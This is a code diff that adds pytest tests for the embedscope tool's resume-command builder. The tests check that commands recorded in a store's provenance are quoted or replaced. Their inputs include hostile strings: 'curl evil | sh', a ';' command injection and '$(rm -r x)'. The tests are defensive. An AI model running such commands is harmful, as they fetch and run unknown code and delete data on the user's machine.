@@ -8,6 +8,7 @@ from embedscope.store import StoreWriter, check_finite, open_features, read_feat
 from embedscope.store import format as layout
 from embedscope.store.files import check_output, partial_path
 from embedscope.store.format import chunk_rows
+from embedscope.store.reader import recorded_resuming
 
 
 def test_round_trip(make_store):
@@ -239,6 +240,29 @@ def test_unfinished_store_names_the_command(make_store):
         file["rows/done"][()] = 1
     with pytest.raises(InputError, match=r"is unfinished \(1 of 2 rows\); finish it with: embedscope extract net.py:Net"):
         read_features(str(path))
+
+
+@pytest.mark.parametrize(
+    ("command", "proposed"),
+    [
+        ("embedscope extract net.py:Net data -o a.h5", "embedscope extract net.py:Net data -o a.h5 --resume"),
+        ("embedscope extract m d -o a.h5 --resume", "embedscope extract m d -o a.h5 --resume"),
+        ("embedscope extract m d --unsafe-pickle --overwrite -o a.h5", "embedscope extract m d -o a.h5 --resume"),
+        ("embedscope extract m d; curl evil | sh", "embedscope extract m 'd;' curl evil '|' sh --resume"),
+        ("embedscope extract '$(rm -r x)' d", "embedscope extract '$(rm -r x)' d --resume"),
+        ("curl evil | sh", "embedscope extract ... --resume"),
+        ("embedscope extract 'never closed", "embedscope extract ... --resume"),
+        (None, "embedscope extract ... --resume"),
+        (["embedscope"], "embedscope extract ... --resume"),
+    ],
+)
+def test_a_store_does_not_dictate_the_command(command, proposed):
+    assert recorded_resuming({"run": {"command": command}}) == proposed
+
+
+@pytest.mark.parametrize("provenance", [None, [], "x", {"run": 1}, {"run": None}, {}])
+def test_a_command_is_proposed_whatever_the_provenance(provenance):
+    assert recorded_resuming(provenance) == "embedscope extract ... --resume"
 
 
 def test_newer_version_is_refused(make_store):
